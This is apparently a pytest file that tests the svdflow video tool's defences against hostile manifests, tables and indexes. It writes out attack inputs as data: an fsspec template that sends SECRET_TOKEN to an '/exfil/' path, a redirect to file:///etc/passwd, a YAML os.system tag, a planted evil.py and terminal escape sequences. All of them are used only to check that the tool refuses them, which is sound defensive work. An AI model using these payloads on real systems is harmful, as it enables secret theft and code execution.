"""Inputs written by someone else (issue 23, the input side): manifests, tables and indexes that name
protocols past a file, broken or endless inputs, control characters, files far larger than the
limits. Each on real files, a real loopback HTTP server and the real CLI, with the exact message.

The good behaviours that held up when this was tried (pickled weights, remote code, YAML tags,
decompression bombs, endless streams, redirects to file://, the 16.7 M-job sweep) are kept under
test here or where the module named beside each says.
"""

from __future__ import annotations

import json
import os
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import markupsafe
import pytest
from conftest import SVDFLOW, free_port, run_cli, write_image, write_manifest

from svdflow.errors import InputError, ManifestError
from svdflow.inputs import fetch_bytes
from svdflow.manifest import load_manifest, load_run_spec
from svdflow.terminal import printable

TINY = "svdflow: 1\nmodel: {source: builtin:tiny}\ndefaults: {num_frames: 2, num_inference_steps: 1, width: 64, " \
       "height: 64}\n"
ALLOWED = ("use a local path or a file, http, https, s3, gs, gcs, az, abfs, hf or memory URL (simplecache, filecache "
           "or blockcache may wrap one: simplecache::s3://...), or, if you trust every manifest, table and index you "
           "run, add {p} to SVDFLOW_EXTRA_PROTOCOLS")


def refused(value: str, protocol: str) -> str:
    return f"{value!r} uses the protocol {protocol}, which svdflow does not open; {ALLOWED.format(p=protocol)}"


class Recorder:
    """A loopback HTTP server that records every path asked for. Routes: path -> (status, headers,
    body); `chunked` ones are sent without a Content-Length."""

    def __init__(self):
        self.paths: list[str] = []
        self.routes: dict[str, tuple[int, dict[str, str], bytes]] = {}
        self.chunked: set[str] = set()
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):  # noqa: N802 (http.server's naming)
                self.answer(body_too=True)

            def do_HEAD(self):  # noqa: N802
                self.answer(body_too=False)

            def answer(self, body_too: bool) -> None:
                recorder.paths.append(self.path)
                status, headers, body = recorder.routes.get(self.path, (404, {}, b"not found"))
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                if self.path in recorder.chunked:  # no size said, in HEAD's answer either
                    if not body_too:
                        self.send_header("Connection", "close")
                        self.end_headers()
                        self.close_connection = True
                        return
                    self.send_header("Transfer-Encoding", "chunked")
                    self.end_headers()
                    self.wfile.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))
                    return
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if body_too:
                    self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}{path}"


@pytest.fixture
def recorder():
    server = Recorder()
    yield server
    server.server.shutdown()
    server.server.server_close()


def exfiltrating_refs(recorder: Recorder) -> str:
    """refs.json of fsspec's reference filesystem whose URL template reads the environment (through a
    template function's globals) and asks the server for /exfil/<SECRET_TOKEN>/..."""
    refs = {"version": 1, "templates": {"t": "{{x}}"},
            "refs": {"": [recorder.url("/exfil/{{t.__globals__[os].environ[SECRET_TOKEN]}}/img.png")]}}
    recorder.routes["/refs.json"] = (200, {}, json.dumps(refs).encode())
    return "reference::" + recorder.url("/refs.json")


def problems_of(path) -> list[str]:
    with pytest.raises(ManifestError) as raised:
        load_run_spec(path)
    return [str(p) for p in raised.value.problems]


# ---------------------------------------------------------------------------------------------
# 1. reference:: and other protocols: refused at validation, in an item, a table cell, an index


def test_a_reference_url_in_an_item_is_refused_before_anything_is_fetched(tmp_path, recorder, monkeypatch, capsys):
    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
    url = exfiltrating_refs(recorder)
    path = write_manifest(tmp_path, TINY + f"items:\n  - id: a\n    image: \"{url}\"\n")
    for command in ("validate", "plan", "run"):
        code, _, err = run_cli(capsys, command, str(path))
        assert (code, err.splitlines()[0]) == (2, f"error: {path}:6:12: items[0].image: {refused(url, 'reference')}")
    assert recorder.paths == []


def test_a_reference_url_in_a_table_cell_is_refused_at_its_cell(tmp_path, recorder, monkeypatch):
    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
    url = exfiltrating_refs(recorder)
    (tmp_path / "shots.csv").write_text(f"id,image\nok,a.png\nb,{url}\n")
    write_image(tmp_path / "a.png")
    path = write_manifest(tmp_path, TINY + "items:\n  - table: shots.csv\n")
    assert problems_of(path) == [f"{tmp_path}/shots.csv:3:3: image: {refused(url, 'reference')}"]
    assert recorder.paths == []


@pytest.mark.parametrize("url, protocol", [
    ("simplecache::reference::http://127.0.0.1:9/refs.json", "reference"),  # every link is checked
    ("github://o:r@main/x.png", "github"),
    ("data://image/png;base64,iVBORw0KGgo=", "data"),
    ("jupyter://h/x", "jupyter"),
    ("ftp://127.0.0.1:9/x.png", "ftp"),
    ("s3::http://127.0.0.1:9/x.png", "s3"),  # only the caching protocols wrap others
])
def test_protocols_off_the_list_are_refused_in_every_room(tmp_path, url, protocol):
    path = write_manifest(tmp_path, TINY + f"output: {{dir: \"{url}\"}}\nitems:\n  - id: a\n    image: \"{url}\"\n"
                                           f"  - glob: \"{url}\"\n  - table: \"{url}.csv\"\n")
    assert problems_of(path) == [
        f"{path}:4:15: output.dir: {refused(url, protocol)}",
        f"{path}:7:12: items[0].image: {refused(url, protocol)}",
        f"{path}:8:11: glob {refused(url, protocol)}",
        f"{path}:9:12: items[2].table: {refused(url + '.csv', protocol)}",
    ]


def test_the_allowed_protocols_and_their_caching_wrappers_pass(tmp_path):
    allowed = ["file:///x.png", "http://h/x.png", "https://h/x.png", "s3://b/x.png", "gs://b/x.png",
               "gcs://b/x.png", "az://c/x.png", "abfs://c/x.png", "hf://datasets/o/r/x.png", "memory://x.png",
               "simplecache::s3://b/x.png", "filecache::https://h/x.png", "blockcache::simplecache::memory://x.png"]
    items = "".join(f"  - id: i{n}\n    image: \"{url}\"\n" for n, url in enumerate(allowed))
    assert [job.image for job in load_run_spec(write_manifest(tmp_path, TINY + "items:\n" + items)).jobs] == allowed


def test_the_added_protocols_travel_to_other_processes(monkeypatch):
    from svdflow.settings import load_settings

    monkeypatch.setenv("SVDFLOW_EXTRA_PROTOCOLS", "SFTP, ftp")
    assert load_settings().environment()["SVDFLOW_EXTRA_PROTOCOLS"] == "sftp,ftp"  # what a Ray worker is given


@pytest.mark.slow
def test_a_protocol_added_in_the_setting_is_opened(tmp_path, monkeypatch):
    monkeypatch.setenv("SVDFLOW_EXTRA_PROTOCOLS", "data, ftp")
    path = write_manifest(tmp_path, TINY + "items:\n  - id: a\n    image: \"data://image/png;base64,AA\"\n")
    assert [job.image for job in load_run_spec(path).jobs] == ["data://image/png;base64,AA"]
    monkeypatch.setenv("SVDFLOW_EXTRA_PROTOCOLS", "data;ftp")
    code = subprocess.run([*SVDFLOW, "validate", str(path)], capture_output=True, text=True)
    assert (code.returncode, code.stderr) == (3, "error: SVDFLOW_EXTRA_PROTOCOLS='data;ftp' is not a comma-separated "
                                                 "list of protocol names; set it to e.g. ftp,sftp, or unset it\n")


@pytest.mark.slow
def test_report_and_rerender_never_open_a_url_an_edited_index_names(tmp_path, recorder, monkeypatch, capsys):
    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
    write_image(tmp_path / "a.png")
    path = write_manifest(tmp_path, TINY + "items:\n  - id: a\n    image: a.png\n")
    assert run_cli(capsys, "run", str(path))[0] == 0
    out = tmp_path / "renders" / "m"
    url = exfiltrating_refs(recorder)
    edited = []
    for record in [*out.rglob("*.json"), *out.rglob("*.jsonl")]:  # every record file that names the input
        text = record.read_text()
        if str(tmp_path / "a.png") in text:
            record.write_text(text.replace(str(tmp_path / "a.png"), url))
            edited.append(record.name)
    assert {"index.jsonl", "a.json"} <= set(edited)
    for thumbnail in (out / "report").rglob("*") if (out / "report").exists() else ():
        thumbnail.unlink() if thumbnail.is_file() else None
    code, _, _ = run_cli(capsys, "report", str(out))
    assert code == 0
    assert f'title="{markupsafe.escape(refused(url, "reference"))}">input unavailable' in (out / "index.html").read_text()
    code, _, err = run_cli(capsys, "rerender", str(out), "--id", "a", "--out", str(tmp_path / "again"))
    assert (code, err) == (1, f"error: {refused(url, 'reference')}\n")
    assert recorder.paths == []


# ---------------------------------------------------------------------------------------------
# 4. Bounded memory: the limits' largest files are measured by benchmarks/bench_manifest.py
# --scenario memory (README); here their shapes, small


def test_a_million_broken_items_list_the_first_hundred_problems_and_count_the_rest(tmp_path, capsys):
    path = write_manifest(tmp_path, "svdflow: 1\nmodel: {source: builtin:tiny}\nitems: [" + ",".join(["{}"] * 300)
                          + "]\n")
    code, _, err = run_cli(capsys, "validate", str(path))
    lines = err.splitlines()
    assert code == 2 and len(lines) == 102
    assert lines[:2] == [f"error: {path}:3:9: items[0]: missing required key 'id'; add `id: <name>`",
                         f"error: {path}:3:9: items[0]: missing required key 'image'; add `image: <local path or "
                         "URL>` (or, for many items, `glob: <pattern>` or `table: <file>` instead of id and image)"]
    assert lines[99].startswith(f"error: {path}:3:156: items[49]: missing required key 'image'")
    assert lines[100:] == ["... and 500 more errors", f"{path}: invalid, 600 problems"]


def test_items_past_the_job_limit_are_counted_not_built(tmp_path):
    items = "".join(f"  - id: i{n}\n    image: a.png\n" for n in range(10))
    path = write_manifest(tmp_path, TINY + "max_jobs: 3\nitems:\n" + items
                          + "  - id: s\n    image: a.png\n    sweep: {seed: [1, 2, 3]}\n  - glob: '*.png'\n"
                          + "  - id: after\n    image: a.png\n")
    loaded = load_manifest(path)
    assert [item.id for item in loaded.manifest.items] == ["i0", "i1", "i2", "i3"]
    assert (loaded.cut.jobs, loaded.cut.exact) == (9, False)
    assert problems_of(path) == [
        f"{path}:12:5: items[3]: this item is job 4, past the limit of 3 jobs per manifest (3 of them taken by the "
        "items before it); split the items across manifests, or raise the limit at the top level of the manifest "
        "(max_jobs: <the number of jobs you mean to render>)"]


def test_a_table_is_read_only_as_far_as_the_limit(tmp_path):
    # Past row 10 the file is not even text: it is never read.
    (tmp_path / "rows.csv").write_bytes(b"id,image\n" + b"".join(b"r%d,a.png\n" % i for i in range(50))
                                        + b"\0\xff" * 1000)
    path = write_manifest(tmp_path, TINY + "max_jobs: 10\nitems:\n  - table: rows.csv\n")
    assert problems_of(path) == [
        f"{path}:6:12: items[0].table: this table has more than 10 rows, past the limit of 10 jobs per manifest; "
        "split the table across manifests, or raise the limit at the top level of the manifest (max_jobs: <the "
        "number of jobs you mean to render>)"]


def test_duplicate_keys_past_a_hundred_are_counted(tmp_path):
    keys = "".join(f"  seed: {n}\n" for n in range(151))
    path = write_manifest(tmp_path, "svdflow: 1\nmodel: {source: builtin:tiny}\ndefaults:\n" + keys
                          + "items:\n  - id: a\n    image: a.png\n")
    with pytest.raises(ManifestError) as raised:
        load_manifest(path)
    assert (len(raised.value.problems), raised.value.more) == (100, 50)
    assert str(raised.value.problems[0]) == (f"{path}:5:3: duplicate key 'defaults.seed' (first set on line 4); keep "
                                             "one of them")


# ---------------------------------------------------------------------------------------------
# 6. A bad input fails its job, never the run


@pytest.mark.slow
def test_every_failure_of_an_input_fails_only_its_job(tmp_path, recorder, monkeypatch, capsys):
    monkeypatch.setenv("SVDFLOW_EXTRA_PROTOCOLS", "ftp,github,data,jupyter")
    recorder.routes["/chunked.png"] = (200, {}, b"x" * 100)
    recorder.chunked.add("/chunked.png")
    write_image(tmp_path / "a.png")
    port = free_port()
    bad = {
        "ftp": f"ftp://127.0.0.1:{port}/x.png",
        "data": "data://image/png;base64,iVBORw0KGgo=",
        "blockcache": "blockcache::" + recorder.url("/chunked.png"),
        "jupyter": "jupyter://h/x",
        "github": "github://o:r@main/x.png",
    }
    items = "  - id: ok\n    image: a.png\n" + "".join(f"  - id: {name}\n    image: \"{url}\"\n"
                                                        for name, url in bad.items())
    path = write_manifest(tmp_path, TINY + "items:\n" + items)
    expected = {
        "ftp": f"{bad['ftp']}: could not read after 3 attempts ([Errno 111] Connection refused); check the network "
               "and try again",
        "data": f"{bad['data']}: could not be read (IndexError: list index out of range); check the URL",
        "blockcache": f"{bad['blockcache']}: could not be read (TypeError: unsupported operand type(s) for -: "
                      "'NoneType' and 'int'); check the URL",
        "jupyter": f"{bad['jupyter']}: could not be read (TypeError: JupyterFileSystem.__init__() missing 1 required "
                   "positional argument: 'url'); check the URL",
    }
    code, out, err = run_cli(capsys, "plan", "--json", str(path))
    assert code == 0, err
    statuses = {job["id"]: (job["status"], job["reason"]) for job in json.loads(out)}
    assert statuses["ok"] == ("new", "not rendered yet")
    assert {name: statuses[name] for name in expected} == {name: ("input error", m) for name, m in expected.items()}
    assert statuses["github"][1].startswith(f"{bad['github']}: could not read (")  # the words depend on the DNS
    code, _, err = run_cli(capsys, "run", str(path))
    assert code == 1
    # fsspec's blockcache keeps its file's state in its instance, shared in the process: opened again
    # before the collector freed the plan's failed file, it fails on another line of fsspec's own.
    again = f"{bad['blockcache']}: could not be read (TypeError: 'NoneType' object cannot be interpreted as an integer); " \
            "check the URL"
    failed = [line for line in err.splitlines() if line.startswith("failed: ")][:-1]
    assert failed in ([f"failed: {name}: {message}" for name, message in expected.items()],
                      [f"failed: {name}: {again if name == 'blockcache' else message}" for name, message in expected.items()])
    assert "1 rendered, 0 re-encoded, 0 up to date, 5 failed" in err


@pytest.mark.parametrize("where, body, table, expected", [
    ("image", "items:\n  - id: a\n    image: \"a\\0.png\"\n", None,
     "m.yaml:6:12: items[0].image: 'a\\x00.png' holds the control character \\x00; no file name or URL needs one, "
     "remove it"),
    ("output.dir", "output: {dir: \"out\\e[2Jx\"}\nitems:\n  - id: a\n    image: a.png\n", None,
     "m.yaml:4:15: output.dir: 'out\\x1b[2Jx' holds the control character \\x1b; no file name or URL needs one, "
     "remove it"),
    ("a CSV cell", "items:\n  - table: t.csv\n", "id,image\na,\"a\x1b]0;title\x07.png\"\n",
     "t.csv:2:3: image: 'a\\x1b]0;title\\x07.png' holds the control character \\x1b; no file name or URL needs one, "
     "remove it"),
    ("a JSON Lines cell", "items:\n  - table: t.jsonl\n", '{"id": "a", "image": "a\\u0000.png"}\n',
     "t.jsonl:1:22: image: 'a\\x00.png' holds the control character \\x00; no file name or URL needs one, "
     "remove it"),
])
def test_control_characters_in_what_names_a_file_are_validation_errors(tmp_path, where, body, table, expected):
    if table is not None:
        (tmp_path / ("t.csv" if "CSV" in where else "t.jsonl")).write_text(table)
    assert problems_of(write_manifest(tmp_path, TINY + body)) == [f"{tmp_path}/{expected}"]


def test_fifos_and_devices_are_refused_without_waiting(tmp_path, capsys):
    os.mkfifo(tmp_path / "pipe.png")
    os.mkfifo(tmp_path / "pipe.csv")
    path = write_manifest(tmp_path, TINY + "items:\n  - id: fifo\n    image: pipe.png\n  - id: zero\n"
                                           "    image: /dev/zero\n")
    code, out, _ = run_cli(capsys, "plan", "--json", str(path))
    assert code == 0 and [(job["status"], job["reason"]) for job in json.loads(out)] == [
        ("input error", f"{tmp_path}/pipe.png: is a named pipe (FIFO), not a file; point to an image file"),
        ("input error", "/dev/zero: is a device, not a file; point to an image file")]
    table = write_manifest(tmp_path, TINY + "items:\n  - table: pipe.csv\n", "t.yaml")
    assert problems_of(table) == [
        f"{table}:5:12: items[0].table: the table cannot be read: pipe.csv: is a named pipe (FIFO), not a file; "
        "point to a .csv or .jsonl file"]


# ---------------------------------------------------------------------------------------------
# 8. The smaller ones


def test_a_web_table_is_judged_by_its_path_not_its_fragment(tmp_path, recorder):
    recorder.routes["/secret"] = (200, {}, b"API_TOKEN=abc123\n")
    url = recorder.url("/secret#.csv")
    path = write_manifest(tmp_path, TINY + f"items:\n  - table: \"{url}\"\n")
    assert problems_of(path) == [
        f"{path}:5:12: items[0].table: '{url}' is not a table svdflow reads; use a .csv file with a header row "
        "(spreadsheets: save as CSV UTF-8) or a .jsonl file (one JSON object per line)"]
    assert recorder.paths == []
    recorder.routes["/shots.csv?v=2"] = (200, {}, b"id,image\na,a.png\n")
    path = write_manifest(tmp_path, TINY + f"items:\n  - table: \"{recorder.url('/shots.csv?v=2#top')}\"\n")
    assert [job.id for job in load_run_spec(path).jobs] == ["a"]


def test_control_characters_reach_the_terminal_escaped(tmp_path, capsys):
    write_image(tmp_path / "shots" / "x\x1b[31mred.png")
    named = write_manifest(tmp_path, TINY + "items:\n  - glob: shots/*.png\n  - id: b\n", "m\x1b]0;pwned\x07.yaml")
    code, out, err = run_cli(capsys, "plan", str(named))
    assert (code, err) == (2, f"error: {tmp_path}/m\\x1b]0;pwned\\x07.yaml:6:5: items[1]: missing required key "
                              "'image'; add `image: <local path or URL>` (or, for many items, `glob: <pattern>` or "
                              "`table: <file>` instead of id and image)\n")
    good = write_manifest(tmp_path, TINY + "items:\n  - glob: shots/*.png\n")
    code, out, err = run_cli(capsys, "plan", str(good))
    assert code == 0 and "\x1b" not in out + err
    assert "x\\x1b[31mred.png" in out


def test_the_terminal_helper_escapes_every_control_character_and_keeps_the_rest():
    assert printable("a\x1b[2Jb\x07c\x00d\x9be\u202ef\tg\nh café 日本") == (
        "a\\x1b[2Jb\\x07c\\x00d\\x9be\\u202ef\\tg\nh café 日本")


@pytest.mark.slow
def test_a_140_kb_input_uri_renders_and_inspect_prints_files_escaped(tmp_path, capsys):
    write_image(tmp_path / "a.png")
    uri = f"file://{tmp_path}/" + "./" * 70_000 + "a.png"
    path = write_manifest(tmp_path, TINY + "output: {formats: [mp4, gif]}\nitems:\n  - id: long\n"
                                           f"    image: \"{uri}\"\n")
    code, _, err = run_cli(capsys, "run", str(path))
    assert code == 0, err
    video = tmp_path / "renders" / "m" / "long.mp4"
    code, out, _ = run_cli(capsys, "inspect", "--json", str(video))
    assert json.loads(out)["input"]["uri"] == uri
    # A file whose provenance someone edited to hold an ESC sequence: inspect prints it escaped.
    import numpy as np

    from svdflow.outputs.provenance import read_provenance
    from svdflow.outputs.writers import EncodeSettings, encode_gif

    provenance = read_provenance(str(video)).model_copy(update={"item_id": "x\x1b[2Jy"})
    gif = tmp_path / "edited.gif"
    encode_gif(np.zeros((2, 64, 64, 3), np.uint8), str(gif), EncodeSettings(playback_fps=7, crf=18,
                                                                              provenance=provenance.to_text()))
    code, out, _ = run_cli(capsys, "inspect", str(gif))
    assert code == 0 and "\x1b" not in out and "  item        x\\x1b[2Jy, seed" in out


# ---------------------------------------------------------------------------------------------
# What held up, kept so. (Elsewhere: pickled weights, tests/test_models.py; HTML autoescaping,
# tests/test_report.py; metadata escaping, tests/test_writers.py; duplicate keys and aliases,
# tests/test_manifest.py; decompression bombs and endless downloads, tests/test_inputs.py; a
# manifest that never ends and the 16.7 M-job sweep, tests/test_limits.py.)


def test_a_redirect_to_a_local_file_is_not_followed(recorder):
    recorder.routes["/redirect.png"] = (302, {"Location": "file:///etc/passwd"}, b"")
    with pytest.raises(InputError) as raised:
        fetch_bytes(recorder.url("/redirect.png"), retries=1)
    assert str(raised.value).startswith(f"{recorder.url('/redirect.png')}: ")
    assert "root:" not in str(raised.value)


def test_yaml_python_tags_are_not_constructed(tmp_path):
    marker = tmp_path / "ran"
    path = write_manifest(tmp_path, TINY + f"items:\n  - id: a\n    image: !!python/object/apply:os.system "
                                           f"[\"touch {marker}\"]\n")
    assert problems_of(path) == [
        f"{path}:6:12: invalid YAML: could not determine a constructor for the tag "
        "'tag:yaml.org,2002:python/object/apply:os.system'; fix the syntax (indentation, quotes, colons, brackets)"]
    assert not marker.exists()


def test_a_local_model_folder_with_code_of_its_own_is_refused_and_its_code_never_runs(tmp_path, tiny_pipe):
    from svdflow.errors import ModelLoadError
    from svdflow.pipeline.models import ModelSpec, load_pipeline

    folder = tmp_path / "model"
    tiny_pipe.save_pretrained(folder, safe_serialization=True)
    marker = tmp_path / "ran"
    (folder / "unet" / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n"
                                             "from diffusers import UNetSpatioTemporalConditionModel as Evil\n")
    index = json.loads((folder / "model_index.json").read_text())
    index["unet"] = ["evil", "Evil"]
    (folder / "model_index.json").write_text(json.dumps(index))
    with pytest.raises(ModelLoadError) as raised:
        load_pipeline(ModelSpec(str(folder), None, None), torch_dtype=None, manifest_dir=str(tmp_path))
    assert str(raised.value) == (
        f"model.source: {folder}: the pipeline could not be loaded: ValueError: The directory {folder}/unet contains "
        f"custom code in evil.py which must be executed to correctly load the model. You can inspect the file content "
        f"at {folder}/unet/evil.py.\nPass `trust_remote_code=True` to allow loading remote code modules.")
    assert not marker.exists()


def test_the_16_million_job_sweep_is_refused_from_its_lists_lengths():
    path = Path(__file__).parent / "invalid" / "sweep_too_many_jobs.yaml"
    expected = path.with_suffix(".expected").read_text().splitlines()[0]
    assert problems_of(path) == [str(path) + expected.removeprefix("error: tests/invalid/sweep_too_many_jobs.yaml")]
